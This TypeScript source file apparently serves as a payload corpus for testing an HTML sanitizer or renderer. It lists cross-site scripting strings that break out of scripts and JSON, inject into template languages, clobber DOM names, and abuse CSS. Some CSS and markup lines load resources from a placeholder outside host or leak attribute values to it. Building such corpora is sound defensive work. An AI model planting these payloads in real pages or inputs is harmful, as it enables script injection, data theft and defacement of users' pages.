import { AWAY, JS } from './markup.ts'

/** Out of data that a page carries within itself. */
export const json = [
  `</script><script>${JS}</script>`,
  `</ScRiPt ><img src=x onerror=${JS}>`,
  `<!--<script>`,
  `<!--<script></script>-->${JS}`,
  `<script><!--`,
  `--></script><svg onload=${JS}>`,
  `"};${JS};//`,
  `";${JS};var a="`,
  `';${JS};//`,
  `\\";${JS};//`,
  `\\u003c/script\\u003e<script>${JS}</script>`,
  `\u2028${JS}\u2029`,
  `*/${JS}/*`,
  `","html":"<img src=x onerror=${JS}>","a":"`,
  `{"__html":"<img src=x onerror=${JS}>"}`,
  `{"__proto__":{"html":"<img src=x onerror=${JS}>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<svg onload=${JS}>"},"type":"div","props":{}}`,
  `data: {"event":"created"}\n\nevent: created\ndata: <script>${JS}</script>\n\n`,
]

/** For languages of templates that may be filled in later. */
export const templates = [
  `{{constructor.constructor('${JS}')()}}`,
  `{{$on.constructor('${JS}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('${JS}')}}`,
  `{{_c.constructor('${JS}')()}}`,
  `{{{<img src=x onerror=${JS}>}}}`,
  `<div v-html="'<img src=x onerror=${JS}>'">a</div>`,
  `<div v-on:vnodemounted="${JS}">a</div>`,
  `<div x-data x-init="${JS}">a</div>`,
  `<div x-html="'<svg onload=${JS}>'">a</div>`,
  `<div ng-app ng-init="constructor.constructor('${JS}')()">a</div>`,
  `<div hx-get="${AWAY}/hx" hx-trigger="load">a</div>`,
  `<div hx-on:load="${JS}">a</div>`,
  `<div data-controller="x" data-action="load->x#y" onload=${JS}>a</div>`,
  `\${${JS}}`,
  `#{${JS}}`,
  `<%= ${JS} %>`,
  `{% set a = "${JS}" %}{{ a|safe }}`,
  `<script type="text/template"><img src=x onerror=${JS}></script>`,
  `<script type="importmap">{"imports":{"a":"${AWAY}/map.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${AWAY}/rules"]}]}</script>`,
]

/** Names that the page's own scripts may look for and find these instead. */
export const clobbering = [
  `<form id=document><input name=cookie></form>`,
  `<img name=currentScript src=x>`,
  `<a id=palaver href="javascript:${JS}"></a>`,
  `<a id=config><a id=config name=url href="${AWAY}/config">`,
  `<form id=customElements><input name=define></form>`,
  `<iframe name=self srcdoc="a"></iframe>`,
  `<form name=body><input name=firstChild></form>`,
  `<input name=attributes><input id=nodeName>`,
  `<object id=defaultView data="about:blank"></object>`,
  `<div id=comment-1>a</div>`,
  `<base id=baseURI href="${AWAY}/">`,
]

/** Style that fetches, covers the page, or runs. */
export const css = [
  `<style>@import '${AWAY}/import.css'</style>`,
  `<style>*{background:url(${AWAY}/all.png)}</style>`,
  `<style>:host{display:none}body{display:none}</style>`,
  `<style>@font-face{font-family:x;src:url(${AWAY}/font.woff)}*{font-family:x}</style>`,
  `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationend=${JS}>a</p>`,
  `<div style="background:url('javascript:${JS}')">a</div>`,
  `<div style="background-image:url(${AWAY}/div.png)">a</div>`,
  `<div style="width:expression(${JS})">a</div>`,
  `<div style="-moz-binding:url(${AWAY}/a.xml#x)">a</div>`,
  `<div style="behavior:url(${AWAY}/a.htc)">a</div>`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:red">a</div>`,
  `<div style="\\62 ackground:\\75rl(${AWAY}/escaped.png)">a</div>`,
  `<p class="palaver-x" id="x" style="display:none!important">a</p>`,
  `<div style="list-style:url(${AWAY}/list.png) inside;content:url(${AWAY}/content.png)">a</div>`,
  `</style><style>a[href^='x']{background:url(${AWAY}/leak)}</style>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(${AWAY}/data.png)}">`,
  `<div style="color:red;}</style><img src=x onerror=${JS}>">a</div>`,
]
